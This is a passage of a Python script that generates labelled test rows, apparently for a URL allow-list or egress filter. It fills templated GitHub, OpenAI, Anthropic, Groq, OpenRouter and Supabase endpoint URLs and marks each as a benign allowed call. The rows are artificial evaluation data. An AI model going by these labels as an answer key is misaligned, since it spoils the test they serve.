    "https://github.com/{o}/{r}/security/advisories/GHSA-j8r2-6x86-q33q",
    "https://github.com/{o}/{r}/blame/{sha}/setup.py",
    "https://github.com/{o}/{r}/commits/main/?author=octocat&since=2024-06-01",
    "https://github.com/{o}/{r}/releases/tag/v3.0.0-rc.1",
    "https://github.com/{o}/{r}/network/dependencies",
]
gh_other = [
    "https://raw.githubusercontent.com/{o}/{r}/{sha}/README.md",
    "https://raw.githubusercontent.com/{o}/{r}/refs/heads/main/pyproject.toml",
    "https://raw.githubusercontent.com/{o}/{r}/main/docs/install.sh",
    "https://raw.githubusercontent.com/{o}/{r}/v2.0.1/requirements/dev.txt",
    "https://raw.githubusercontent.com/{o}/{r}/main/tests/fixtures/sample%20data.json",
    "https://codeload.github.com/{o}/{r}/tar.gz/refs/tags/v1.2.3",
    "https://codeload.github.com/{o}/{r}/zip/refs/heads/main",
    "https://uploads.github.com/repos/{o}/{r}/releases/164834917/assets?name=app-v1.2.3-linux-x86_64.tar.gz&label=Linux%20build",
    "https://gist.github.com/octocat/{gist}",
    "https://gist.github.com/octocat/{gist}/raw/{sha}/notes.md",
    "https://docs.github.com/en/rest/repos/repos?apiVersion=2022-11-28#list-repository-tags",
    "https://docs.github.com/en/actions/using-workflows/workflow-syntax-for-github-actions",
    "https://pages.github.com/",
    "https://api.github.com/repos/{o}/{r}/pages",
]
ai = [
    "https://api.openai.com/v1/chat/completions",
    "https://api.openai.com/v1/models",
    "https://api.openai.com/v1/models/gpt-4o-2024-08-06",
    "https://api.openai.com/v1/embeddings",
    "https://api.openai.com/v1/files?purpose=fine-tune&limit=20",
    "https://api.openai.com/v1/fine_tuning/jobs?limit=10&after=ftjob-abc123DEF456ghi789",
    "https://api.openai.com/v1/threads/thread_{tid}/runs/run_{rid}/steps?order=asc&limit=20",
    "https://api.openai.com/v1/vector_stores/vs_{tid}/files?filter=completed",
    "https://api.openai.com/v1/responses",
    "https://api.openai.com/v1/responses/resp_{hex48}",
    "https://api.openai.com/v1/audio/transcriptions",
    "https://api.openai.com/v1/images/generations",
    "https://api.openai.com/v1/batches/batch_{hex32}",
    "https://api.openai.com/v1/files/file-{tid}/content",
    "https://api.openai.com/v1/moderations",
    "https://api.anthropic.com/v1/messages",
    "https://api.anthropic.com/v1/messages/count_tokens",
    "https://api.anthropic.com/v1/models/claude-3-5-sonnet-20241022",
    "https://api.anthropic.com/v1/models?limit=20",
    "https://api.anthropic.com/v1/messages/batches?limit=20&before_id=msgbatch_01HkcTjaV5uDC8jWR4ZsDV8d",
    "https://api.anthropic.com/v1/messages/batches/msgbatch_013Zva2CMHLNnXjNJJKqJ2EF/results",
    "https://api.anthropic.com/v1/files/file_011CNha8iCJcU1wXNR6q4V8w/content",
    "https://api.groq.com/openai/v1/chat/completions",
    "https://api.groq.com/openai/v1/models",
    "https://api.groq.com/openai/v1/models/llama-3.3-70b-versatile",
    "https://api.groq.com/openai/v1/audio/transcriptions",
    "https://api.groq.com/openai/v1/batches/batch_01jh6xa7reempvjyh6n3yst2zw",
    "https://openrouter.ai/api/v1/chat/completions",
    "https://openrouter.ai/api/v1/models?supported_parameters=tools",
    "https://openrouter.ai/api/v1/generation?id=gen-1731955470-Zm9vYmFyYmF6cXV4",
    "https://openrouter.ai/api/v1/credits",
    "https://openrouter.ai/api/v1/models/anthropic/claude-3.5-sonnet/endpoints",
    "https://openrouter.ai/docs/api-reference/limits",
    "https://openrouter.ai/models?order=top-weekly&q=llama",
    "https://status.openrouter.ai/",
    "https://{ref}.supabase.co/rest/v1/countries?select=name,cities(name)&order=name.asc&limit=10",
    "https://{ref}.supabase.co/rest/v1/todos?id=eq.42&select=*",
    "https://{ref}.supabase.co/rest/v1/messages?created_at=gte.2024-01-01&order=created_at.desc&limit=50&offset=100",
    "https://{ref}.supabase.co/rest/v1/profiles?username=ilike.*john*&select=id,username,avatar_url",
    "https://{ref}.supabase.co/storage/v1/object/public/avatars/user-{uuid}.png",
    "https://{ref}.supabase.co/storage/v1/object/list/documents",
    "https://{ref}.supabase.co/auth/v1/settings",
    "https://{ref}.supabase.co/functions/v1/hello-world",
    "https://{ref}.supabase.co/rest/v1/rpc/search_documents",
    "https://{ref}.supabase.co/rest/v1/orders?status=in.(pending,shipped)&customer_id=eq.{uuid}",
]
long_ok = [
    "https://api.github.com/search/issues?q=" + "+".join(["is%3Aopen", "is%3Apr", "review%3Arequired", "label%3Adependencies",
        "label%3Asecurity", "-label%3Awontfix", "author%3Aapp%2Fdependabot", "created%3A2024-01-01..2024-12-31",
        "repo%3A{o}%2F{r}", "sort%3Aupdated-desc"]) + "&per_page=100&page=7",
    "https://api.github.com/repos/{o}/{r}/issues?" + "&".join(f"labels={l}" for l in ["bug", "regression", "needs%20triage", "area%2Fnetworking", "priority%2Fhigh"]) + "&state=all&sort=comments&direction=desc&since=2023-10-01T00%3A00%3A00Z&per_page=100",
    "https://{ref}.supabase.co/rest/v1/events?select=" + ",".join(["id", "created_at", "kind", "payload", "user_id", "session_id", "source", "ip_country", "device", "duration_ms", "status"]) + "&and=(created_at.gte.2024-06-01,created_at.lt.2024-07-01,kind.in.(click,view,purchase))&order=created_at.desc&limit=1000&offset=25000",
    "https://api.github.com/search/code?q=" + urllib.parse.quote("\"def retry_with_backoff\" language:python path:src/ NOT path:tests/ NOT path:vendor/ size:<10000") + "&per_page=50",
    "https://github.com/{o}/{r}/blob/{sha}/" + "/".join(["src", "main", "java", "io", "example", "service", "internal", "transport", "http2", "Http2ConnectionManagerImplementation.java"]),
]
cursors = [
    "https://api.github.com/repos/{o}/{r}/issues?per_page=100&after=Y3Vyc29yOnYyOpHOAAABkQ%3D%3D",
    "https://api.github.com/repos/{o}/{r}/stargazers?per_page=100&page=12",
    "https://api.github.com/node/MDQ6VXNlcjU4MzIzMQ==",
    "https://api.openai.com/v1/files?after=file-{tid}&limit=100",
    "https://api.github.com/repos/{o}/{r}/commits/{sha}/status",
    "https://api.github.com/repos/{o}/{r}/git/commits/{sha}",
    "https://api.github.com/repos/{o}/{r}/actions/caches?key=pip-Linux-{sha64}",
    "https://api.github.com/repos/{o}/{r}/issues?per_page=50&page=3&state=closed",
    "https://{ref}.supabase.co/rest/v1/documents?id=eq.{uuid}",
    "https://{ref}.supabase.co/storage/v1/object/sign/reports/2024/Q3%20summary.pdf",
    "https://api.github.com/repos/{o}/{r}/git/matching-refs/tags/v1.",
    "https://github.com/{o}/{r}/commit/{sha}?diff=split&w=1",
    "https://raw.githubusercontent.com/{o}/{r}/{sha}/package-lock.json",
    "https://api.github.com/repos/{o}/{r}/actions/runs?head_sha={sha}",
]


def fill(t):
    o, r = repo()
    return t.format(o=o, r=r, sha=sha(), gist=rand("0123456789abcdef", 32),
                    tid=rand(ALNUM, 24), rid=rand(ALNUM, 24), hex48=rand("0123456789abcdef", 48),
                    hex32=rand("0123456789abcdef", 32), ref=rand(string.ascii_lowercase, 20),
                    uuid=uuid(), sha64=rand("0123456789abcdef", 64))


for family, templates in [("benign-github-api", gh_api), ("benign-github-web", gh_web),
                          ("benign-github-other", gh_other), ("benign-ai-and-data", ai),
                          ("benign-long", long_ok), ("benign-ids", cursors)]:
    for t in templates:
        allow(fill(t), family, "ordinary call to an allowed host")

for r_ in rows:
    sys.stdout.write(json.dumps(r_, ensure_ascii=False) + "\n")
